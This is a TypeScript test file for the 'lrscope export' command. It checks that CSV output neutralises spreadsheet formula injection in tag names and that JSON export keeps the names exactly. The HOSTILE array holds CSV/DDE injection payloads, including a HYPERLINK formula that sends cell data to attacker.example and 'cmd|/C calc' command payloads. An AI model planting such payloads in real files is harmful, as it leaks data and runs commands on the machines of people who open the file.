// `lrscope export` CSV with hostile tag names: a tag starting with = + - @ is written as text (a leading
// single quote), so a spreadsheet opening the file runs no formula; values stay numbers, negative ones
// included; JSON is exact.
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, it, expect, beforeAll, afterAll } from 'vitest';
import { cli } from '../helpers/cli';
import { buildLamaRun, lamaSpec } from '../helpers/lamaTree';
import { encodeScalarEvent, eventRecord } from '../../server/ingest/tfeventsWriter';
import { testDbUrl } from '../helpers/testDb';

const HOSTILE = ['=HYPERLINK("http://attacker.example/?"&A1,"x")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\'/C calc\'!A0'];

describe('lrscope export: CSV injection', () => {
  let tmp: string;
  let db: string;
  let name: string;

  beforeAll(async () => {
    tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'lrscope-export-'));
    const built = buildLamaRun(path.join(tmp, 'project'), lamaSpec({ maxEpochs: 1, limitTrainBatches: 20 }));
    name = built.name;
    fs.appendFileSync(built.eventFile, Buffer.concat(HOSTILE.map((tag, i) => eventRecord(encodeScalarEvent({ tag, step: 5 + i, value: -0.5 - i, wallTime: 1_800_000_000 + i })))));
    db = testDbUrl(tmp, 'db');
    expect((await cli('ingest', path.join(tmp, 'project'), '--db', db)).code).toBe(0);
  });

  afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

  it('prefixes text cells that start like a formula; numbers stay numbers', async () => {
    const r = await cli('export', name, '--db', db, ...HOSTILE.flatMap((t) => ['--tag', t]));
    expect(r.code).toBe(0);
    const lines = r.out.trimEnd().split('\n');
    expect(lines[0]).toBe('tag,step,wall_time,value');
    const rows = lines.slice(1);
    expect(rows).toHaveLength(HOSTILE.length);
    for (const row of rows) expect(row, row).toMatch(/^("?)'[=+\-@]/);
    expect(rows).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""x"")",5,1800000000,-0.5`);
    expect(rows).toContain("'-2+3,7,1800000002,-2.5");
    // every value cell is a plain (negative) number, never quoted or prefixed
    for (const row of rows) expect(row).toMatch(/,-\d+(\.\d+)?$/);
  });

  it('ordinary tags are untouched, and JSON keeps the names exactly', async () => {
    const csv = await cli('export', name, '--db', db, '--tag', 'train_gen_l1');
    expect(csv.out.split('\n')[1]).toMatch(/^train_gen_l1,\d+,/);
    const json = JSON.parse((await cli('export', name, '--db', db, '--format', 'json', '--tag', HOSTILE[0])).out) as { points: { tag: string }[] };
    expect(json.points[0].tag).toBe(HOSTILE[0]);
  });
});
